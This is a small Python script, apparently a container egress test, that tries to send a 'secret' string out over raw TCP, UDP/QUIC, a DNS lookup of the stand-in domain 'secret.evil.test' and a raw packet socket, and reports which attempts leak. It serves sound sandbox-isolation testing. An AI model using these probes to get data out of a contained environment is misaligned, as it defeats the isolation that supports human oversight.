"""Ways out of a container that are not HTTP, each with what happened. Used by try.sh, inside the container."""

import socket
import struct
import time


def attempt(what, action):
    started = time.monotonic()
    try:
        result = action()
    except OSError as error:
        result = f"refused ({error.strerror or error})"
    print(f"{what:<44} {result:<36} {1000 * (time.monotonic() - started):5.0f} ms")


def tcp(address, port):
    with socket.create_connection((address, port), 5) as connection:
        connection.sendall(b"secret\r\n\r\n")
        connection.settimeout(3)
        answer = connection.recv(100)
        return f"LEAKED: {answer[:30]!r}" if b"secret" in answer else "closed, nothing came back"


def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"secret", (address, port))
        sender.sendto(b"secret", (address, port))
        return "LEAKED: sent"


def dns(server, name):
    question = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    question += b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(5)
        sender.sendto(question, (server, 53))
        code = sender.recv(512)[3] & 15
        return {0: "LEAKED: answered", 3: "NXDOMAIN"}.get(code, f"code {code}")


def raw():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)
    return "LEAKED: opened"


attempt("TCP 203.0.113.9:22", lambda: tcp("203.0.113.9", 22))
attempt("TCP 203.0.113.9:443, no TLS", lambda: tcp("203.0.113.9", 443))
attempt("UDP 203.0.113.9:443 (QUIC)", lambda: udp("203.0.113.9", 443))
attempt("DNS at 8.8.8.8 for secret.evil.test", lambda: dns("8.8.8.8", "secret.evil.test"))
attempt("a raw packet socket", raw)
